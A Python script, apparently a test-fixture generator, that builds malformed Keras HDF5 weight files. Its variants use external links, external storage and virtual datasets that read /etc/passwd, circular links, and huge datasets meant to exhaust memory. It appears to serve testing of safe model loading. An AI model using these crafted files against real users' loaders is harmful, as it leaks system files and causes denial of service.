"""Files with which an attacker would have another file opened, or memory filled, by whoever loads weights: Keras's own,
with one thing in them changed by h5py. `python attacks.py` writes `Golden/attacks/hdf5.zip`."""

import io
import os
import zipfile

os.environ["KERAS_BACKEND"] = "jax"

import h5py
import keras
import numpy as np

golden = os.path.join(os.path.dirname(os.path.abspath(__file__)), "Golden", "attacks")
KERNEL = (4, 3)


def saved(ending):
    """The bytes of a small model that Keras saved."""
    keras.utils.clear_session()
    keras.utils.set_random_seed(1)
    model = keras.Sequential([keras.Input((4,)), keras.layers.Dense(3)], name="victim")
    path = os.path.join(golden, "model" + ending)
    model.save_weights(path) if ending == ".weights.h5" else model.save(path)
    with open(path, "rb") as file:
        data = file.read()
    os.remove(path)
    return data


def circle(file, path):
    file[path] = file["/"]


def virtual(file, path):
    layout = h5py.VirtualLayout(shape=KERNEL, dtype="f4")
    layout[:] = h5py.VirtualSource("/etc/passwd", "x", shape=KERNEL)
    file.create_virtual_dataset(path, layout)


def dataset(**arguments):
    return lambda file, path: file.create_dataset(path, **arguments)


def link(value):
    def put(file, path):
        file[path] = value
    return put


# What takes the place of a group or dataset, at any component of the path.
LINKS = {
    "soft link": link(h5py.SoftLink("/elsewhere")),
    "external link": link(h5py.ExternalLink("/etc/passwd", "/x")),
    "circle": circle,
}
# What takes the place of the kernel.
KERNELS = {
    "external storage": dataset(shape=KERNEL, dtype="f4", external=[("/etc/passwd", 0, 48)]),
    "virtual": virtual,
    "chunks": dataset(data=np.zeros(KERNEL, "f4"), chunks=(2, 3)),
    "gzip": dataset(data=np.zeros(KERNEL, "f4"), compression="gzip"),
    "unwritten": dataset(shape=KERNEL, dtype="f4"),
    "huge": dataset(shape=(1 << 40, 1 << 20), dtype="f4"),
    "huge chunks": dataset(shape=(1 << 40, 1 << 20), dtype="f4", chunks=(1, 64)),
    "compound": dataset(data=np.zeros(KERNEL, [("a", "f4"), ("b", "i4")])),
    "big-endian": dataset(data=np.zeros(KERNEL, ">f4")),
    "strings": dataset(data=np.full(KERNEL, "x", object), dtype=h5py.string_dtype()),
    "another shape": dataset(data=np.zeros((3, 4), "f4")),
}


def changed(data, path, put):
    file = io.BytesIO(data)
    with h5py.File(file, "r+") as h5:
        del h5[path]
        put(h5, path)
    return file.getvalue()


def main():
    os.makedirs(golden, exist_ok=True)
    layouts = {
        "weights": (saved(".weights.h5"), "layers/dense/vars/0"),
        "legacy": (saved(".h5"), "model_weights/dense/victim/dense/kernel"),
    }
    with zipfile.ZipFile(os.path.join(golden, "hdf5.zip"), "w", zipfile.ZIP_DEFLATED) as archive:
        def add(name, data):
            archive.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED)

        for layout, (data, kernel) in layouts.items():
            add(f"{layout}/good", data)
            parts = kernel.split("/")
            for count in range(1, len(parts) + 1):
                for kind, put in LINKS.items():
                    add(f"{layout}/{kind}/{count}", changed(data, "/".join(parts[:count]), put))
            for kind, put in KERNELS.items():
                add(f"{layout}/{kind}", changed(data, kernel, put))


if __name__ == "__main__":
    main()
